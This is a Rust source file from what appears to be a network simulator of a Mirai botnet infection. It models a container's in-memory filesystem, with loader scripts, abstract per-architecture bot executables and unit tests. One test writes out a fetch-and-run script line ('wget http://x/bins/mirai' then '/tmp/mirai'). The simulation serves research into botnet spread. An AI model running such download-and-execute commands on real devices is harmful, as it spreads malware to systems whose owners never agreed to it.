//! The container's in-memory filesystem.
//!
//! Holds the files the infection chain manipulates: the downloaded shell
//! script, the architecture-specific malware binary (`wget`/`chmod`/exec),
//! and its deletion afterwards (Mirai removes its binary on startup).

use netsim::{Application, Ctx};
use std::collections::BTreeMap;
use std::fmt;
use std::sync::Arc;
use tinyvm::Arch;

/// A shell script: a sequence of command lines.
///
/// Line storage is `Arc`-shared: the loader script served by the attacker's
/// file server is downloaded into every infected device's filesystem, and
/// cloning the script there (or into a forked world) shares one line vector
/// instead of reallocating it per device (flyweight).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ShellScript {
    lines: Arc<Vec<String>>,
}

impl ShellScript {
    /// Creates a script from lines.
    pub fn new<I, S>(lines: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        ShellScript {
            lines: Arc::new(lines.into_iter().map(Into::into).collect()),
        }
    }

    /// The command lines, in execution order.
    pub fn lines(&self) -> &[String] {
        &self.lines
    }

    /// Approximate byte size of the script text.
    pub fn byte_size(&self) -> u64 {
        self.lines.iter().map(|l| l.len() as u64 + 1).sum()
    }
}

/// Environment handed to a program launcher when a file is executed.
#[derive(Debug)]
pub struct LaunchEnv {
    /// Path the program was executed from.
    pub exec_path: String,
    /// Architecture of the host container.
    pub host_arch: Arch,
    /// Process-table id assigned to the new program.
    pub pid: crate::proc::Pid,
    /// The container the program runs in.
    pub container: crate::container::ContainerHandle,
}

/// Factory invoked when an executable file runs; returns the application
/// embodying the program (e.g. the Mirai bot).
///
/// `Send + Sync` so executables can travel inside packet payloads (file
/// downloads); the closure should capture only plain configuration.
pub type ProgramLauncher = Arc<dyn Fn(&mut Ctx<'_>, LaunchEnv) -> Box<dyn Application> + Send + Sync>;

/// A file as served by the Attacker's HTTP file server: the path it is
/// published under plus its contents.
#[derive(Debug, Clone)]
pub struct ServedFile {
    /// Published path (e.g. `/bins/mirai.x86`).
    pub path: String,
    /// File contents and metadata.
    pub entry: FileEntry,
}

/// What a file contains.
#[derive(Clone)]
pub enum FileKind {
    /// Plain data.
    Data,
    /// A shell script.
    Script(ShellScript),
    /// An executable for `arch`; running it spawns the launcher's app.
    Executable {
        /// Architecture the binary was compiled for.
        arch: Arch,
        /// Factory producing the program's behaviour.
        launcher: ProgramLauncher,
    },
}

impl fmt::Debug for FileKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            FileKind::Data => f.write_str("Data"),
            FileKind::Script(s) => f.debug_tuple("Script").field(&s.lines.len()).finish(),
            FileKind::Executable { arch, .. } => {
                f.debug_struct("Executable").field("arch", arch).finish()
            }
        }
    }
}

/// One file: contents kind, size, and mode.
#[derive(Debug, Clone)]
pub struct FileEntry {
    /// Contents.
    pub kind: FileKind,
    /// Size in bytes (drives memory accounting and download timing).
    pub size_bytes: u64,
    /// Whether the execute bit is set.
    pub executable: bool,
}

/// Errors from filesystem operations.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum FsError {
    /// No file at the path.
    NotFound(String),
    /// The file is not executable (missing chmod +x).
    NotExecutable(String),
}

impl fmt::Display for FsError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            FsError::NotFound(p) => write!(f, "no such file: {p}"),
            FsError::NotExecutable(p) => write!(f, "permission denied: {p}"),
        }
    }
}

impl std::error::Error for FsError {}

/// An immutable filesystem template: the sorted file manifest a container
/// image starts from. Shared by `Arc` across every container built from the
/// same image.
pub type FsTemplate = Arc<BTreeMap<String, FileEntry>>;

/// A flat in-memory filesystem, copy-on-write over an optional shared
/// template.
///
/// A filesystem is the composition of an immutable, `Arc`-shared *base*
/// (the image template — identical for every device built from the same
/// firmware) and a private *overlay* of per-container changes. Writes,
/// chmods, and removals land in the overlay (removals as tombstones); reads
/// and iteration present the merged view. A fleet of 100k identical devices
/// therefore stores its firmware manifest once, and each device pays only
/// for the files it actually touched — the same layering Docker images use.
///
/// # Examples
///
/// ```
/// use firmware::{FileEntry, FileKind, SimFs};
///
/// let mut fs = SimFs::new();
/// fs.write("/tmp/mirai", FileEntry {
///     kind: FileKind::Data,
///     size_bytes: 121_000,
///     executable: false,
/// });
/// assert!(fs.resolve_executable("/tmp/mirai").is_err()); // needs chmod +x
/// fs.chmod_exec("/tmp/mirai")?;
/// assert!(fs.resolve_executable("/tmp/mirai").is_ok());
/// # Ok::<(), firmware::FsError>(())
/// ```
#[derive(Debug, Default, Clone)]
pub struct SimFs {
    /// Shared image template, if the container was built from one.
    base: Option<FsTemplate>,
    /// Per-container changes: `Some` = written/updated file, `None` =
    /// tombstone shadowing a base file.
    overlay: BTreeMap<String, Option<FileEntry>>,
}

impl SimFs {
    /// An empty filesystem.
    pub fn new() -> Self {
        SimFs::default()
    }

    /// A filesystem whose initial contents are the shared `template`.
    pub(crate) fn from_template(template: FsTemplate) -> Self {
        SimFs {
            base: Some(template),
            overlay: BTreeMap::new(),
        }
    }

    /// Writes (or replaces) a file.
    pub fn write(&mut self, path: impl Into<String>, entry: FileEntry) {
        self.overlay.insert(path.into(), Some(entry));
    }

    /// Iterates all files in sorted path order (serialization, digests):
    /// a sorted merge of base and overlay, overlay entries shadowing base
    /// entries and tombstones hiding them.
    pub fn files(&self) -> impl Iterator<Item = (&str, &FileEntry)> {
        let mut base = self
            .base
            .as_deref()
            .map(|b| b.iter().peekable());
        let mut overlay = self.overlay.iter().peekable();
        std::iter::from_fn(move || loop {
            let base_path = base
                .as_mut()
                .and_then(|b| b.peek())
                .map(|(p, _)| p.as_str());
            let over_path = overlay.peek().map(|(p, _)| p.as_str());
            match (base_path, over_path) {
                (None, None) => return None,
                (Some(_), None) => {
                    let (p, e) = base.as_mut().and_then(|b| b.next())?;
                    return Some((p.as_str(), e));
                }
                (Some(bp), Some(op)) if bp < op => {
                    let (p, e) = base.as_mut().and_then(|b| b.next())?;
                    return Some((p.as_str(), e));
                }
                (Some(bp), Some(op)) => {
                    if bp == op {
                        // Overlay shadows the base entry (or tombstones it).
                        base.as_mut().and_then(|b| b.next());
                    }
                    let (p, e) = overlay.next()?;
                    if let Some(entry) = e {
                        return Some((p.as_str(), entry));
                    }
                }
                (None, Some(_)) => {
                    let (p, e) = overlay.next()?;
                    if let Some(entry) = e {
                        return Some((p.as_str(), entry));
                    }
                }
            }
        })
    }

    fn lookup(&self, path: &str) -> Option<&FileEntry> {
        match self.overlay.get(path) {
            Some(Some(entry)) => Some(entry),
            Some(None) => None, // tombstone
            None => self.base.as_deref().and_then(|b| b.get(path)),
        }
    }

    /// Reads a file.
    ///
    /// # Errors
    ///
    /// Returns [`FsError::NotFound`] if the path does not exist.
    pub fn read(&self, path: &str) -> Result<&FileEntry, FsError> {
        self.lookup(path)
            .ok_or_else(|| FsError::NotFound(path.to_owned()))
    }

    /// Marks a file executable (`chmod +x`). A base file is copied up into
    /// the overlay first.
    ///
    /// # Errors
    ///
    /// Returns [`FsError::NotFound`] if the path does not exist.
    pub fn chmod_exec(&mut self, path: &str) -> Result<(), FsError> {
        if let Some(Some(entry)) = self.overlay.get_mut(path) {
            entry.executable = true;
            return Ok(());
        }
        let mut entry = match self.overlay.get(path) {
            Some(None) => None, // tombstone: the path was deleted
            _ => self.base.as_deref().and_then(|b| b.get(path)).cloned(),
        }
        .ok_or_else(|| FsError::NotFound(path.to_owned()))?;
        entry.executable = true;
        self.overlay.insert(path.to_owned(), Some(entry));
        Ok(())
    }

    /// Removes a file; returns whether it existed.
    pub fn remove(&mut self, path: &str) -> bool {
        let existed = self.lookup(path).is_some();
        if !existed {
            return false;
        }
        if self.base.as_deref().is_some_and(|b| b.contains_key(path)) {
            // A tombstone must shadow the base entry.
            self.overlay.insert(path.to_owned(), None);
        } else {
            self.overlay.remove(path);
        }
        true
    }

    /// Removes every file under `prefix` (e.g. `/tmp/` on reboot — tmpfs
    /// contents are volatile); returns how many were removed.
    pub(crate) fn remove_prefix(&mut self, prefix: &str) -> usize {
        let doomed: Vec<String> = self
            .files()
            .map(|(p, _)| p.to_owned())
            .filter(|p| p.starts_with(prefix))
            .collect();
        for path in &doomed {
            self.remove(path);
        }
        doomed.len()
    }

    /// Whether a path exists.
    pub fn exists(&self, path: &str) -> bool {
        self.lookup(path).is_some()
    }

    /// Resolves an executable for running.
    ///
    /// # Errors
    ///
    /// Returns [`FsError::NotFound`] if missing, [`FsError::NotExecutable`]
    /// if the execute bit is not set.
    pub fn resolve_executable(&self, path: &str) -> Result<&FileEntry, FsError> {
        let entry = self.read(path)?;
        if !entry.executable {
            return Err(FsError::NotExecutable(path.to_owned()));
        }
        Ok(entry)
    }

    /// Total bytes stored.
    pub(crate) fn total_bytes(&self) -> u64 {
        self.files().map(|(_, f)| f.size_bytes).sum()
    }

    /// Number of files.
    pub fn file_count(&self) -> usize {
        self.files().count()
    }
}

/// Content-addressed store of filesystem templates.
///
/// Interning the same manifest twice yields the same `Arc` (one stored
/// copy however many images describe identical contents). Content identity
/// covers each file's path, size, execute bit, and kind — for scripts, the
/// command lines; for executables, the architecture. Launcher closures are
/// configuration-only by construction (see [`ProgramLauncher`]) and are not
/// part of the identity.
#[derive(Debug, Default)]
pub struct FsTemplateStore {
    templates: Vec<(u64, FsTemplate)>,
}

impl FsTemplateStore {
    /// An empty store.
    pub fn new() -> Self {
        FsTemplateStore::default()
    }

    fn content_key(manifest: &BTreeMap<String, FileEntry>) -> u64 {
        let mut h = netsim::StateHasher::new();
        h.write_usize(manifest.len());
        for (path, entry) in manifest {
            h.write_str(path);
            h.write_u64(entry.size_bytes);
            h.write_bool(entry.executable);
            match &entry.kind {
                FileKind::Data => h.write_u64(0),
                FileKind::Script(s) => {
                    h.write_u64(1);
                    h.write_usize(s.lines().len());
                    for line in s.lines() {
                        h.write_str(line);
                    }
                }
                FileKind::Executable { arch, .. } => {
                    h.write_u64(2);
                    h.write_str(arch.suffix());
                }
            }
        }
        h.finish()
    }

    /// Interns `manifest`, returning the shared template — the existing one
    /// if an identical manifest was interned before.
    pub fn intern(&mut self, manifest: BTreeMap<String, FileEntry>) -> FsTemplate {
        let key = Self::content_key(&manifest);
        if let Some((_, t)) = self.templates.iter().find(|(k, _)| *k == key) {
            return Arc::clone(t);
        }
        let template: FsTemplate = Arc::new(manifest);
        self.templates.push((key, Arc::clone(&template)));
        template
    }

    /// Number of distinct templates stored.
    pub fn len(&self) -> usize {
        self.templates.len()
    }

    /// Whether the store is empty.
    pub fn is_empty(&self) -> bool {
        self.templates.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn data(bytes: u64) -> FileEntry {
        FileEntry {
            kind: FileKind::Data,
            size_bytes: bytes,
            executable: false,
        }
    }

    #[test]
    fn write_read_remove() {
        let mut fs = SimFs::new();
        fs.write("/tmp/a", data(10));
        assert!(fs.exists("/tmp/a"));
        assert_eq!(fs.read("/tmp/a").expect("exists").size_bytes, 10);
        assert!(fs.remove("/tmp/a"));
        assert!(!fs.remove("/tmp/a"));
        assert_eq!(fs.read("/tmp/a").unwrap_err(), FsError::NotFound("/tmp/a".into()));
    }

    #[test]
    fn chmod_gates_execution() {
        let mut fs = SimFs::new();
        fs.write("/tmp/bot", data(100));
        assert_eq!(
            fs.resolve_executable("/tmp/bot").unwrap_err(),
            FsError::NotExecutable("/tmp/bot".into())
        );
        fs.chmod_exec("/tmp/bot").expect("exists");
        assert!(fs.resolve_executable("/tmp/bot").is_ok());
    }

    #[test]
    fn chmod_missing_file_errors() {
        let mut fs = SimFs::new();
        assert!(matches!(fs.chmod_exec("/nope"), Err(FsError::NotFound(_))));
    }

    #[test]
    fn remove_prefix_clears_tmpfs() {
        let mut fs = SimFs::new();
        fs.write("/tmp/a", data(1));
        fs.write("/tmp/b", data(2));
        fs.write("/etc/config", data(3));
        assert_eq!(fs.remove_prefix("/tmp/"), 2);
        assert!(!fs.exists("/tmp/a"));
        assert!(fs.exists("/etc/config"));
    }

    #[test]
    fn total_bytes_sums_files() {
        let mut fs = SimFs::new();
        fs.write("/a", data(10));
        fs.write("/b", data(32));
        assert_eq!(fs.total_bytes(), 42);
        assert_eq!(fs.file_count(), 2);
    }

    #[test]
    fn script_byte_size_counts_newlines() {
        let s = ShellScript::new(["ab", "c"]);
        assert_eq!(s.byte_size(), 5);
    }

    fn template() -> FsTemplate {
        Arc::new(BTreeMap::from([
            ("/etc/config".to_owned(), data(3)),
            (
                "/usr/sbin/connmand".to_owned(),
                FileEntry {
                    kind: FileKind::Data,
                    size_bytes: 900,
                    executable: true,
                },
            ),
        ]))
    }

    #[test]
    fn template_files_are_visible_and_unshadowed_until_written() {
        let fs = SimFs::from_template(template());
        assert!(fs.exists("/etc/config"));
        assert_eq!(fs.total_bytes(), 903);
        assert_eq!(fs.file_count(), 2);
        assert_eq!(fs.overlay.len(), 0);
        assert!(fs.resolve_executable("/usr/sbin/connmand").is_ok());
    }

    #[test]
    fn overlay_shadows_and_merges_in_sorted_order() {
        let mut fs = SimFs::from_template(template());
        fs.write("/etc/config", data(10)); // shadow
        fs.write("/tmp/mirai", data(7)); // new
        let listed: Vec<(String, u64)> = fs
            .files()
            .map(|(p, e)| (p.to_owned(), e.size_bytes))
            .collect();
        assert_eq!(
            listed,
            vec![
                ("/etc/config".to_owned(), 10),
                ("/tmp/mirai".to_owned(), 7),
                ("/usr/sbin/connmand".to_owned(), 900),
            ]
        );
        assert_eq!(fs.total_bytes(), 917);
    }

    #[test]
    fn removing_a_base_file_tombstones_it() {
        let mut fs = SimFs::from_template(template());
        assert!(fs.remove("/etc/config"));
        assert!(!fs.exists("/etc/config"));
        assert!(!fs.remove("/etc/config"));
        assert_eq!(fs.file_count(), 1);
        // A fresh write over the tombstone resurrects the path.
        fs.write("/etc/config", data(5));
        assert_eq!(fs.read("/etc/config").expect("resurrected").size_bytes, 5);
    }

    #[test]
    fn chmod_copies_a_base_file_up() {
        let mut fs = SimFs::from_template(template());
        assert!(fs.resolve_executable("/etc/config").is_err());
        fs.chmod_exec("/etc/config").expect("exists in base");
        assert!(fs.resolve_executable("/etc/config").is_ok());
        assert_eq!(fs.overlay.len(), 1);
        // Tombstoned base files cannot be chmodded back to life.
        fs.remove("/usr/sbin/connmand");
        assert!(matches!(
            fs.chmod_exec("/usr/sbin/connmand"),
            Err(FsError::NotFound(_))
        ));
    }

    #[test]
    fn remove_prefix_spans_base_and_overlay() {
        let mut fs = SimFs::from_template(template());
        fs.write("/etc/extra", data(1));
        assert_eq!(fs.remove_prefix("/etc/"), 2);
        assert!(!fs.exists("/etc/config"));
        assert!(!fs.exists("/etc/extra"));
        assert!(fs.exists("/usr/sbin/connmand"));
    }

    #[test]
    fn template_store_is_content_addressed() {
        let mut store = FsTemplateStore::new();
        let manifest = |size| {
            BTreeMap::from([(
                "/usr/sbin/dnsmasq".to_owned(),
                FileEntry {
                    kind: FileKind::Data,
                    size_bytes: size,
                    executable: true,
                },
            )])
        };
        let a = store.intern(manifest(100));
        let b = store.intern(manifest(100));
        let c = store.intern(manifest(200));
        assert!(Arc::ptr_eq(&a, &b), "identical manifests share one template");
        assert!(!Arc::ptr_eq(&a, &c));
        assert_eq!(store.len(), 2);
    }

    #[test]
    fn cloned_scripts_share_line_storage() {
        let s = ShellScript::new(["wget http://x/bins/mirai", "/tmp/mirai"]);
        let downloaded = s.clone();
        assert_eq!(s, downloaded);
        assert!(std::ptr::eq(
            s.lines().as_ptr(),
            downloaded.lines().as_ptr()
        ));
    }
}
